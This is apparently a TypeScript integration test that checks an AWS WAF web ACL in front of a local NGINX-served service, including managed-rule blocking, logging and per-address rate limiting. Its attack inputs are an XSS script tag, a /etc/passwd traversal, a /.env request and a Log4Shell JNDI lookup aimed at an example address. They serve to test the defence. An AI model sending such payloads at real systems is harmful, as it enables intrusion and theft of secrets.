import { request } from 'node:http'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { awsJson } from '../aws.ts'
import { isInstalled } from '../commands.ts'
import { type Answer, call } from '../http.ts'
import type { Running } from '../running.ts'
import { create, created, itemsOf, namesOf } from './calls.ts'
import { startItems } from './running.ts'

/** Requests of one address in five minutes. */
const LIMIT = 200

/** What AWS WAF wrote about a request. */
interface Logged {
  readonly action: string
  readonly terminatingRuleId: string
  readonly httpRequest: { readonly clientIp: string; readonly requestId: string; readonly uri: string }
}

describe.skipIf(!isInstalled('nginx'))('the web ACL before the items (needs NGINX)', () => {
  let items: Running
  beforeAll(async () => {
    items = await startItems({ context: { rate: String(LIMIT) }, timeScale: 10 })
  })
  afterAll(() => items?.stop())

  /** The record of a blocked request, by the id that its answer carries. */
  async function recordOf({ headers }: Answer): Promise<Logged> {
    const [, id = 'no id'] = /Root=([\w-]+)/.exec(String(headers['x-amzn-trace-id'])) ?? []
    const find = async () => {
      const { events } = await awsJson<{ events: { message: string }[] }>(
        items,
        'logs',
        'Logs_20140328.FilterLogEvents',
        { logGroupName: 'aws-waf-logs-cloud-native-demo-dev', filterPattern: `"${id}"` },
      )
      return events.map(({ message }): Logged => JSON.parse(message))
    }
    await expect.poll(find).toHaveLength(1)
    const [record] = await find()
    if (!record) throw new Error(`nothing is logged of ${id}`)
    return record
  }

  it('I-14: blocks what the managed rules know as bad, says so with an id that is in its log, and stores nothing', async () => {
    const bad: readonly (readonly [rule: string, answer: Promise<Answer>])[] = [
      ['Common', create(items, { name: '<script>alert(1)</script>' })],
      ['Common', call(`${itemsOf(items)}?q=../../../etc/passwd`)],
      ['Common', call(`${items.site}/.env`)],
      ['Common', call(`${items.site}/`, { headers: { 'User-Agent': '' } })],
      ['KnownBadInputs', call(items.site, { headers: { Referer: '${jndi:ldap://203.0.113.9/a}' } })],
    ]
    for (const [rule, asked] of bad) {
      const answer = await asked
      expect([answer.status, answer.body]).toEqual([403, expect.stringContaining('403 Forbidden')])
      expect(await recordOf(answer)).toMatchObject({
        action: 'BLOCK',
        terminatingRuleId: `AWSManagedRules${rule}RuleSet`,
        httpRequest: { clientIp: '127.0.0.1' },
      })
    }
    expect(await namesOf(items)).toEqual([])
    // Longer than the common rules allow, and allowed here.
    await created(items, 'Long', 'word '.repeat(1990))
  })

  it.skipIf(process.platform !== 'linux')(
    'I-14: blocks an address that floods, while others pass (needs a second address: Linux)',
    async () => {
      const flooded = async () => (await from('127.0.0.2', `${items.site}/api/v1/info`)).status
      const statuses: number[] = []
      while (!statuses.includes(403) && statuses.length < LIMIT * 20) statuses.push(await flooded())
      expect(statuses.length).toBeGreaterThan(LIMIT)
      const others: number[] = []
      for (let count = 0; count < 10; count++) {
        others.push((await call(`${items.site}/api/v1/info`)).status)
        expect(await flooded()).toBe(403)
      }
      expect(new Set(others)).toEqual(new Set([200]))
      expect(await recordOf(await from('127.0.0.2', `${items.site}/`))).toMatchObject({
        action: 'BLOCK',
        terminatingRuleId: 'rate-per-address',
        httpRequest: { clientIp: '127.0.0.2', uri: '/' },
      })
    },
  )
})

/** A request that comes from another address of this machine. */
function from(localAddress: string, url: string): Promise<Answer> {
  const { host, port, pathname } = new URL(url)
  const { promise, resolve, reject } = Promise.withResolvers<Answer>()
  const headers = { Host: host, 'User-Agent': 'terrace-tests' }
  request({ host: '127.0.0.1', port, path: pathname, localAddress, agent: false, headers }, answer => {
    answer.resume()
    answer.on('end', () => resolve({ status: answer.statusCode ?? 0, headers: answer.headers, body: '' }))
  })
    .on('error', reject)
    .end()
  return promise
}
